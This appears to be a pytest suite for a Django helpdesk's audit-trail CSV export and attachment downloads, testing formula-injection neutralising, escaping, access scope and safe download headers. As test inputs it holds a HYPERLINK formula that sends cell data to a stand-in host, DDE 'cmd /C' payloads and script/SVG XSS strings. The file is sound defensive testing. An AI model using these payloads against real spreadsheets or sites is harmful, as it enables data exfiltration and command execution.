"""Every export and download: the audit trail's CSV export (formula injection, CSV
escaping, BOM, recording, scope, streaming budget, methods), the audit viewer's filters as an export
reads them, and attachment downloads (headers for odd names, types, caching)."""

import csv
import io
import re
from datetime import UTC, datetime
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

import audit
from accounts.models import Organization, User
from audit import export
from audit.models import AuditEvent
from audit.retention import prune_events
from tests.factories import (
    OrganizationFactory,
    TeamFactory,
    make_administrator,
    make_agent,
    make_customer,
    make_supervisor,
    make_ticket,
)
from tickets import services as ticket_services
from tickets.models import Attachment

pytestmark = pytest.mark.django_db

LIST = reverse("audit:event_list")
EXPORT = reverse("audit:event_export")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def raw_csv(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw_csv(response).removeprefix("\ufeff"))))


@pytest.fixture
def desk():
    support, billing = TeamFactory(name="Support"), TeamFactory(name="Billing")
    support_agent, billing_agent = make_agent(support), make_agent(billing)
    acme = make_customer(OrganizationFactory(name="Acme"))
    support_ticket = make_ticket(acme, team=support, subject="Support printer")
    billing_ticket = make_ticket(acme, team=billing, subject="Billing invoice")
    ticket_services.ticket_update_fields(support_ticket, changes={"priority": "urgent"}, actor=support_agent)
    ticket_services.ticket_update_fields(billing_ticket, changes={"priority": "high"}, actor=billing_agent)
    return {"support": support, "billing": billing, "support_agent": support_agent,
            "billing_agent": billing_agent, "customer": acme, "support_ticket": support_ticket,
            "billing_ticket": billing_ticket}  # fmt: skip


# --- CSV content: formulas, escaping, encoding ---------------------------------------------------


def test_every_text_column_of_the_export_is_neutralised_against_formulas_yet_readable(client):
    """An actor's name, an organisation's name, an object's text and the user agent that start with
    =, +, -, @, tab or CR reach the CSV prefixed with a single quote, the rest of the text intact, so a
    spreadsheet shows it as text and never runs it."""
    hostile = {
        "actor": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "org": "@SUM(1+1)*cmd|' /C calc'!A0",
        "object": "+1+1",
        "tab": "\t=1+1",
    }
    admin = make_administrator(name=hostile["actor"])
    organization = Organization.objects.create(name=hostile["org"], slug="evil-org")
    audit.record("update", actor=admin, obj=organization, changes={"name": ("Old", hostile["org"])})
    audit.record("update", actor=None, object_repr=hostile["object"])
    audit.record("update", actor=None, object_repr=hostile["tab"])
    audit.record("update", actor=None, object_repr="-2 is a minus, \r=1 a CR")
    client.force_login(admin)
    # The first export records the hostile user agent; the second exports that event too.
    first = client.post(EXPORT, {}, headers={"User-Agent": "=cmd|' /C notepad'!A1"})
    b"".join(first.streaming_content)
    rows = read_csv(client.post(EXPORT, {}))
    header, body = rows[0], rows[1:]
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    cells = {cell for row in body for cell in row}
    assert "'" + hostile["actor"] in cells
    assert "'" + hostile["org"] in cells
    assert "'+1+1" in cells
    # A formula after a line break inside the cell is neutralised too (a reader ignoring the quotes).
    assert "'-2 is a minus, \r'=1 a CR" in cells
    export_row = next(row for row in body if row[header.index("action")] == "export")
    assert export_row[header.index("user agent")] == "'=cmd|' /C notepad'!A1"


def test_quotes_commas_newlines_and_non_ascii_survive_the_csv_round_trip(client):
    """An object text holding quotes, commas, line breaks, semicolons, accents, CJK and emoji comes back
    from the CSV exactly as recorded, one row per event, and the file is UTF-8 with one BOM at its start."""
    tricky = 'Say "hi", then\nleave; ça va? 日本 🎉'
    long_text = "x" * 5000
    audit.record("update", actor=None, object_repr=tricky)
    audit.record("update", actor=None, object_repr="ok", changes={"body": ("a" * 100, long_text)})
    client.force_login(make_administrator())
    response = client.post(EXPORT, {"action": "update"})
    text = raw_csv(response)
    assert text.startswith('\ufeff"sequence",') and text.count("\ufeff") == 1
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) == 3
    assert tricky in [row[8] for row in rows]
    assert any(long_text in row[9] for row in rows)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_export_filename_is_a_plain_quoted_ascii_attachment_name(client):
    """The export arrives as a download named audit-<date>-<time>.csv, a safe header on one line."""
    audit.record("update", actor=None, object_repr="thing")
    client.force_login(make_administrator())
    response = client.post(EXPORT, {})
    header = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="audit-\d{8}-\d{6}\.csv"', header), header


def test_the_export_is_never_cached(client):
    """An export of the audit trail is private data: no shared or browser cache keeps it."""
    audit.record("update", actor=None, object_repr="thing")
    client.force_login(make_administrator())
    response = client.post(EXPORT, {})
    assert "no-store" in response["Cache-Control"] or "private" in response["Cache-Control"]


# --- recording and methods -----------------------------------------------------------------------


def test_a_supervisors_export_is_recorded_with_their_filter_and_the_rows_they_received(client, desk):
    """A supervisor's export is a security event naming their filter and exactly the number of rows in
    the file they received (their scope, not the whole trail)."""
    supervisor = make_supervisor(desk["support"])
    client.force_login(supervisor)
    rows = read_csv(client.post(EXPORT, {"category": "business", "unknown": "x", "before": "3"}))
    export = AuditEvent.objects.get(action="export")
    assert export.actor == supervisor and export.category == "security"
    assert export.changes["filter"] == [None, {"category": "business"}]
    assert export.changes["rows"] == [None, len(rows) - 1]
    assert "Billing invoice" not in str(rows)


@pytest.mark.parametrize("method", ["get", "head", "put", "delete"])
def test_only_a_post_exports_and_other_methods_record_nothing(client, method):
    """GET, HEAD, PUT or DELETE of the export address answer 405 and neither stream a file nor record an
    export event."""
    audit.record("update", actor=None, object_repr="thing")
    client.force_login(make_administrator())
    response = getattr(client, method)(EXPORT)
    assert response.status_code == 405
    assert not AuditEvent.objects.filter(action="export").exists()


def test_agents_customers_and_visitors_cannot_export(client, desk):
    """Only supervisors and administrators export: an agent and a customer get 404, a visitor is sent to
    sign in; none of them records an export."""
    audit.record("update", actor=None, object_repr="thing")
    for person in (desk["support_agent"], desk["customer"]):
        client.force_login(person)
        assert client.post(EXPORT, {}).status_code in (403, 404)
    client.logout()
    assert client.post(EXPORT, {}).status_code == 302
    assert not AuditEvent.objects.filter(action="export").exists()


# --- scope ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"object_type": "ORG"},
        {"actor": "ADMIN"},
        {"category": "security"},
        {"object": "Billing invoice"},
        {"action": "settings_change"},
        {"actor": "BILLING"},
    ],
)
def test_tampered_filters_never_widen_a_supervisors_export(client, desk, params):
    """A supervisor who posts a filter naming what is not theirs (an organisation's kind, an
    administrator's id, another team's ticket, an action only administrators did) gets a 200 with only
    their own events or a 422, never another team's or an administrator's events, never a 500."""
    from django.contrib.contenttypes.models import ContentType

    admin = make_administrator(name="Ada Admin")
    audit.record("settings_change", actor=admin, object_repr="Site configuration", category="security")
    organization = desk["customer"].organization
    audit.record("update", actor=admin, obj=organization, changes={"name": ("Acme", "Acme Corp")})
    replace = {
        "ORG": str(ContentType.objects.get_for_model(Organization).pk),
        "ADMIN": str(admin.pk),
        "BILLING": str(desk["billing_agent"].pk),
    }
    params = {key: replace.get(value, value) for key, value in params.items()}
    client.force_login(make_supervisor(desk["support"]))
    response = client.post(EXPORT, params)
    assert response.status_code in (200, 422)
    if response.status_code == 200:
        text = str(read_csv(response))
        for secret in ("Billing invoice", "Site configuration", "Acme Corp", "Ada Admin"):
            assert secret not in text, (params, secret)


def test_events_recorded_while_the_file_streams_are_not_in_it_and_the_count_matches(client):
    """The file holds the selection as it stood when the export was asked for: an event recorded while
    it streams is not in it, so the recorded row count matches the file."""
    for number in range(3):
        audit.record("update", actor=None, object_repr=f"before {number}")
    client.force_login(make_administrator())
    response = client.post(EXPORT, {"action": "update"})
    stream = iter(response.streaming_content)
    first = next(stream)
    audit.record("update", actor=None, object_repr="during the export")
    text = (first + b"".join(stream)).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert sorted(row[8] for row in rows) == ["before 0", "before 1", "before 2"]
    assert AuditEvent.objects.get(action="export").changes["rows"] == [None, 3]


# --- streaming budget ----------------------------------------------------------------------------


def _export_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.post(EXPORT, {"action": "bulk.probe"})
        rows = read_csv(response)
    return len(queries), len(rows) - 1


@pytest.mark.parametrize("who", ["administrator", "supervisor"])
def test_a_big_export_streams_in_chunks_with_a_bounded_number_of_queries(
    client, who, django_assert_max_num_queries
):
    """An export of 1,010 events costs at most a couple of queries more than one of 10 (one per chunk
    of a thousand rows), for an administrator and a supervisor alike."""
    team = TeamFactory(name="Support")
    member = make_agent(team)
    user = make_administrator() if who == "administrator" else make_supervisor(team)
    client.force_login(user)
    for _ in range(10):
        audit.record("bulk.probe", actor=member, obj=member)
    small, small_rows = _export_queries(client)
    for _ in range(1000):
        audit.record("bulk.probe", actor=member, obj=member)
    with django_assert_max_num_queries(small + 2):
        response = client.post(EXPORT, {"action": "bulk.probe"})
        rows = read_csv(response)
    assert (small_rows, len(rows) - 1) == (10, 1010)


# --- the viewer's actor filter, which the export follows -----------------------------------------


def test_the_actor_filter_finds_system_events_although_an_account_address_contains_system(client):
    """The viewer shows automated events as by "System"; filtering (and exporting) by actor "System"
    finds them, also once some account's address happens to contain "system" (it-systems@...)."""
    admin = make_administrator()
    audit.record("sla.breach", actor=None, object_repr="T-1 breached its SLA")
    client.force_login(admin)
    assert "T-1 breached its SLA" in client.get(LIST, {"actor": "System"}).content.decode()
    make_customer(email="it-systems@acme.example", name="IT Systems desk")
    page = client.get(LIST, {"actor": "System"}).content.decode()
    assert "T-1 breached its SLA" in page
    rows = read_csv(client.post(EXPORT, {"actor": "System"}))
    assert "T-1 breached its SLA" in str(rows)


def test_an_actor_filter_matching_many_accounts_still_exports_every_matching_event(client):
    """A supervisor who filters by "Zed" (their agent Zed Agent) while more than 200 customers of other
    organisations are called "Zed …" still gets their agent's events in the list and the export, not
    a silently partial file that is recorded as the whole selection."""
    team = TeamFactory(name="Support")
    organization = OrganizationFactory()
    User.objects.bulk_create(
        User(email=f"zed{number}@other.example", name=f"Zed Customer {number}", organization=organization)
        for number in range(210)
    )
    # Accounts are ordered by address: the agent's sorts after the 210 customers'.
    agent = make_agent(team, name="Zed Agent", email="zz.agent@support.example")
    ticket = make_ticket(make_customer(), team=team, subject="Support printer")
    ticket_services.ticket_update_fields(ticket, changes={"priority": "urgent"}, actor=agent)
    client.force_login(make_supervisor(team))
    assert "Support printer" in client.get(LIST, {"actor": "Zed"}).content.decode()
    rows = read_csv(client.post(EXPORT, {"actor": "Zed"}))
    assert "Support printer" in str(rows)


# --- the viewer's filters with odd input ---------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"date_from": "2025-02-30"},
        {"date_to": "1-1-1"},
        {"date_from": "2025-13-01"},
        {"date_from": "\uff11\uff12\uff13\uff14-01-01"},
        {"date_from": "0000-01-01"},
        {"object": "T-" + "9" * 30},
        {"object": "#0"},
        {"object": "T-\u0661\u0662"},
        {"object_type": "-1"},
        {"object_type": "1e3"},
        {"actor": " " * 10},
        {"before": "0", "after": "0"},
    ],
)
def test_odd_dates_and_ids_in_the_viewer_and_the_export_never_error(client, params):
    """Impossible dates, full-width digits, huge or malformed ids: the list answers 200 or a 422 whose
    form says what is wrong, and the export answers the same way (or exports), never a 500."""
    audit.record("update", actor=None, object_repr="thing")
    client.force_login(make_administrator())
    response = client.get(LIST, params)
    assert response.status_code in (200, 422), params
    if response.status_code == 422:
        assert 'aria-invalid="true"' in response.content.decode()
    exported = client.post(EXPORT, params)
    assert exported.status_code in (200, 422), params
    if exported.status_code == 200:
        read_csv(exported)


def test_a_date_range_that_ends_before_it_starts_says_so(client):
    """From 2025-03-10 to 2025-03-01 can hold no event: the viewer says the range is reversed (or reads
    it the right way round) rather than showing an empty trail as if nothing happened."""
    audit.record("update", actor=None, object_repr="thing")
    client.force_login(make_administrator())
    response = client.get(LIST, {"date_from": "2025-03-10", "date_to": "2025-03-01"})
    page = response.content.decode()
    assert response.status_code in (200, 422)
    assert response.status_code == 422 or re.search(r"(before|after|earlier|later).{0,60}date", page, re.I), (
        "a reversed range reads as 'No events match'"
    )


# --- attachment downloads ------------------------------------------------------------------------


def text_file(name: str, content: bytes = b"hello there") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/html")


@pytest.fixture
def note_desk():
    team = TeamFactory(name="Support")
    agent = make_agent(team)
    ticket = make_ticket(make_customer(), team=team, subject="Printer")
    return {"team": team, "agent": agent, "ticket": ticket}


def _download(client, note_desk, name: str, content: bytes = b"hello there", method: str = "get"):
    note = ticket_services.ticket_add_note(
        note_desk["ticket"], body="Files", actor=note_desk["agent"], uploads=[text_file(name, content)]
    )
    attachment = Attachment.objects.get(owner_id=note.pk)
    client.force_login(note_desk["agent"])
    url = reverse("tickets:attachment_download", args=[attachment.pk])
    return getattr(client, method)(url), attachment


def _header_filename(header: str) -> str:
    match = re.search(r"filename\*=utf-8''([^;\s]+)", header)
    if match:
        return unquote(match.group(1))
    match = re.search(r'filename="((?:[^"\\]|\\.)*)"', header)
    assert match, header
    return match.group(1)


@pytest.mark.parametrize(
    ("uploaded", "expected"),
    [
        ("a;b=c.txt", "a;b=c.txt"),
        ("it's 100%.txt", "it's 100%.txt"),
        ("back\\slash.txt", "slash.txt"),
        ("tab\there.txt", "tabhere.txt"),
        ("zero\u200bwidth.txt", "zerowidth.txt"),
        ("=HYPERLINK(1).csv", "=HYPERLINK(1).csv"),
        ("Ωmega\u202egpj.txt", "Ωmegagpj.txt"),
        ("  ..hidden.txt.. ", "hidden.txt"),
    ],
)
def test_odd_file_names_download_under_one_safe_disposition(client, note_desk, uploaded, expected):
    """Semicolons, quotes, percent signs, backslashes, tabs, zero-width and bidi characters in a name:
    the download is an attachment whose one-line header names the file as the page shows it, with
    nothing that would start another parameter or header."""
    response, attachment = _download(client, note_desk, uploaded, b"a,b\n1,2\n")
    assert response.status_code == 200
    header = response["Content-Disposition"]
    assert header.startswith("attachment;")
    assert not re.search(r"[\x00-\x1f\x7f]", header), header
    assert _header_filename(header) == expected == attachment.filename, header
    plain = re.search(r'filename="((?:[^"\\]|\\.)*)"', header).group(1)
    assert plain.isascii() and '"' not in plain


def test_a_long_non_ascii_name_keeps_a_bounded_header(client, note_desk):
    """A 400-character Japanese file name is shortened (200 characters, extension kept) and the header
    stays well inside what proxies accept."""
    response, attachment = _download(client, note_desk, "日本語" * 134 + ".txt")
    assert response.status_code == 200
    header = response["Content-Disposition"]
    assert _header_filename(header).endswith(".txt") and len(attachment.filename) <= 200
    assert len(header) < 8000  # well inside common proxies' header limits


def test_a_download_is_private_uncached_sandboxed_and_never_html(client, note_desk):
    """A text file sent as text/html by the browser downloads as text/plain (never text/html), with
    nosniff, a sandboxing CSP and no caching, and counts one download; a HEAD counts none."""
    response, attachment = _download(client, note_desk, "page.txt", b"just words")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/plain")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert b"".join(response.streaming_content) == b"just words"
    head = client.head(reverse("tickets:attachment_download", args=[attachment.pk]))
    assert head.status_code == 200 and head["Content-Disposition"].startswith("attachment;")
    attachment.refresh_from_db()
    assert attachment.download_count == 1


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("page.html", b"<html><body>hi</body></html>"),
        ("page.htm", b"hello"),
        ("notes.txt", b"<script>alert(1)</script>"),
        ("data.csv", b"a,b\n<svg onload=alert(1)>\n"),
        ("image.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("notes.txt", "\ufeff<html>".encode("utf-16")),
    ],
)
def test_html_or_svg_uploads_are_refused_so_none_is_ever_served(note_desk, name, content):
    """An upload that is a web page or SVG (by name or by content) is refused before it is stored:
    nothing could later be served as markup."""
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        ticket_services.ticket_add_note(
            note_desk["ticket"], body="Files", actor=note_desk["agent"], uploads=[text_file(name, content)]
        )
    assert not Attachment.objects.exists()


def test_an_export_whose_oldest_events_are_pruned_while_it_streams_fails_instead_of_passing_for_whole(
    client, monkeypatch
):
    """Retention (audit_prune) run while the file streams: the rows left to send are fewer than the
    export recorded, and the download breaks off rather than end as if complete."""
    monkeypatch.setattr(export, "CHUNK", 2)
    for number in range(8):
        audit.record("update", actor=None, object_repr=f"Old event {number}")
    client.force_login(make_administrator(is_superuser=True))
    lines = iter(client.post(EXPORT).streaming_content)
    assert len([next(lines) for _ in range(3)]) == 3  # the header and the newest two rows
    prune_events(datetime(2999, 1, 1, tzinfo=UTC))
    with pytest.raises(export.ExportCutShort):
        list(lines)


def test_an_export_untouched_by_retention_ends_with_the_rows_it_recorded(client, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 2)
    for number in range(7):
        audit.record("update", actor=None, object_repr=f"Event {number}")
    client.force_login(make_administrator(is_superuser=True))
    body = b"".join(client.post(EXPORT).streaming_content).decode("utf-8-sig")
    recorded = AuditEvent.objects.get(action="export").changes["rows"][1]
    assert len(list(csv.reader(io.StringIO(body)))) - 1 == recorded
